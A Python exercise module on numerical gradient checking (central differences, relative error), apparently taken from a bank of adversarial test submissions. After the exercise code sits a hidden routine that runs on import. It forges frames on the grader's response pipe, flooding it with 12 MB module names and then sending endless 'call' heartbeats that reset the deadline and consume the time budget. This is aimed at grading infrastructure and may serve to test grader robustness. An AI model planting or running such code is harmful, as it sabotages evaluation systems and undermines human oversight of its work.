"""Checking gradients numerically: central differences and the relative error."""
import json
import os
import struct
import sys
import time

import numpy as np


def numerical_gradient(f, x, eps=1e-5):
    """Central-difference gradient of the scalar function ``f`` at the array ``x``.

    Shapes: ``x`` any shape → gradient of the same shape, float64.
    ``grad[i] = (f(x + eps·e_i) − f(x − eps·e_i)) / (2 eps)``. ``x`` is nudged in place, one
    element at a time (so ``f`` may read it through a closure), and restored exactly.

    Hint: save ``x[i]``, evaluate at ``x[i] ± eps``, put the saved value back.
    """
    if not (isinstance(x, np.ndarray) and x.dtype == np.float64 and x.flags.writeable):
        # A number, a list or an integer array cannot be nudged by eps in place.
        x = np.array(x, dtype=float)
    grad = np.zeros(x.shape, dtype=float)
    for index in np.ndindex(*x.shape):
        saved = x[index]
        try:
            x[index] = saved + eps
            f_plus = f(x)
            x[index] = saved - eps
            f_minus = f(x)
        finally:
            x[index] = saved  # put back the very same float
        grad[index] = (float(f_plus) - float(f_minus)) / (2 * eps)
    return grad


def relative_error(a, b):
    """Largest elementwise relative error, ``max |a − b| / max(|a| + |b|, 1e-8)``, as a float.

    Shapes: ``a`` and ``b`` of one shape (or broadcastable). Two zero arrays give ``0.0``.
    About 1e-7 or less means two gradients agree; above 1e-2 one of them is wrong.

    Hint: ``np.maximum`` keeps the denominator away from 0.
    """
    a = np.asarray(a, dtype=float)
    b = np.asarray(b, dtype=float)
    return float(np.max(np.abs(a - b) / np.maximum(np.abs(a) + np.abs(b), 1e-8)))


# Filled in by the bank's assembler; while it still reads "@" + "BANK_MARKER@" this is a
# committed copy opened by accident, and the attack stays disarmed.
_ARMED = not "@BANK_MARKER@".startswith("@")


def _response_fd():
    """The worker's pipe to the grader: its config is on its command line (or in __main__)."""
    candidates = list(sys.argv[1:])
    config = getattr(sys.modules.get("__main__"), "_CONFIG", None)
    for item in candidates + [config]:
        try:
            item = json.loads(item) if isinstance(item, str) else item
        except ValueError:
            continue
        if isinstance(item, dict) and isinstance(item.get("resp_fd"), int):
            return item["resp_fd"]
    return None


def _frame(control) -> bytes:
    """A frame as the worker writes them: magic, header length, body length, JSON header."""
    header = json.dumps(control, ensure_ascii=False).encode("utf-8")
    return struct.pack("<4sIQ", b"BPW1", len(header), 0) + header


def _send(fd, data: bytes) -> None:
    view = memoryview(data)
    while view:
        view = view[os.write(fd, view):]


def _forge():
    fd = _response_fd()
    if not _ARMED or fd is None:
        return
    # bank: "fail" notes for modules that do not exist, each named by a 3-million-character
    # string (12 MB in the grader's memory): the grader keeps every one, and would send the
    # list back with every later request
    wide = "\U0001F600" * 3_000_000
    for i in range(80):
        _send(fd, _frame({"note": "fail", "module": f"exercises.m{i}{wide}", "error": "x"}))
    del wide
    # bank: then a "call" note every second: each one restarts the call's deadline, so this
    # import never times out and eats the whole submission's time budget
    while True:
        _send(fd, _frame({"note": "call"}))
        time.sleep(1.0)


_forge()
